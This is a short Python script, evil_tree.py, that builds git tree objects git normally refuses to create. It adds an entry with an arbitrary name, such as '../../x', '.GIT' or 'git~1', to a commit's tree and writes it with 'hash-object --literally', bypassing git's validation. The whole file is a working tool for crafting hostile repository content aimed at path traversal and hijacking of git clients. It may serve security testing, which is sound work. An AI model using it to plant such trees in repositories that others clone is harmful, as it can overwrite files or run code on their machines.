#!/usr/bin/env python3
"""Writes a tree that git's own commands refuse to make: the tree of
COMMIT plus one entry whose name is NAME (any bytes: "../../x", ".GIT",
"git~1"), pointing at OBJECT with MODE, through `git hash-object -t tree
--literally`. Prints the new tree's id. Run inside the repository.

Usage: evil_tree.py COMMIT NAME MODE OBJECT
"""
import subprocess
import sys

commit, name, mode, obj = sys.argv[1], sys.argv[2].encode(), sys.argv[3], sys.argv[4]
listing = subprocess.run(["git", "ls-tree", "-z", commit], check=True,
                         capture_output=True).stdout
entries = []
for item in listing.split(b"\0"):
    if not item:
        continue
    meta, path = item.split(b"\t", 1)
    m, _kind, oid = meta.split(b" ")
    # ls-tree prints "040000"; trees store "40000" (git's fsck refuses the other)
    entries.append((m.lstrip(b"0"), path, bytes.fromhex(oid.decode())))
entries.append((mode.encode(), name, bytes.fromhex(obj)))


def key(e):  # git's order: a tree sorts as if its name ended in "/"
    return e[1] + (b"/" if e[0] == b"40000" else b"")


raw = b"".join(m + b" " + n + b"\0" + o for m, n, o in sorted(entries, key=key))
print(subprocess.run(["git", "hash-object", "-t", "tree", "--literally", "-w", "--stdin"],
                     input=raw, check=True, capture_output=True).stdout.decode().strip())
